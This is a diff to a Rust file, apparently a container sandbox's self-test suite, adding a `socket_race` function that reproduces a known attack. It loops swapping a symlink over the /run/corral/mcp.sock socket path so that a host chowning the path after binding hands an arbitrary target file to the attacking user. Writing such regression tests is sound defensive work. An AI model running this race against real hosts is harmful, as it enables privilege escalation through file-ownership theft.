@@ -106,6 +106,33 @@ fn socket_dir() -> Attempt {
     Ok("nothing can be created, renamed or removed in /run/corral".into())
 }
 
+/// What the outside attack did: while the host (re)starts, keep renaming
+/// a link to `target` over the socket's path, so that a host that chowns
+/// the path after binding would hand `target` to this uid. Runs until
+/// killed; prints a line a second with how many tries got through.
+pub fn socket_race(target: &str) -> u8 {
+    let dir = std::path::Path::new("/run/corral");
+    let (link, socket) = (dir.join(".race"), dir.join("mcp.sock"));
+    let (mut tries, mut through) = (0u64, 0u64);
+    let mut last = std::time::Instant::now();
+    loop {
+        tries += 1;
+        let _ = std::fs::remove_file(&link);
+        if std::os::unix::fs::symlink(target, &link).is_ok()
+            && std::fs::rename(&link, &socket).is_ok()
+        {
+            through += 1;
+        }
+        // Thousands of tries a second, without taking a whole core.
+        std::thread::sleep(Duration::from_micros(50));
+        if last.elapsed() >= Duration::from_secs(1) {
+            println!("socket-race: {tries} tries, {through} got through");
+            let _ = std::io::stdout().flush();
+            last = std::time::Instant::now();
+        }
+    }
+}
+
 /// Corral's seccomp profile refuses debugging and kernel-facing calls a
 /// tool runner never needs; `ptrace` on PID 1 once left a container that
 /// could not exit.
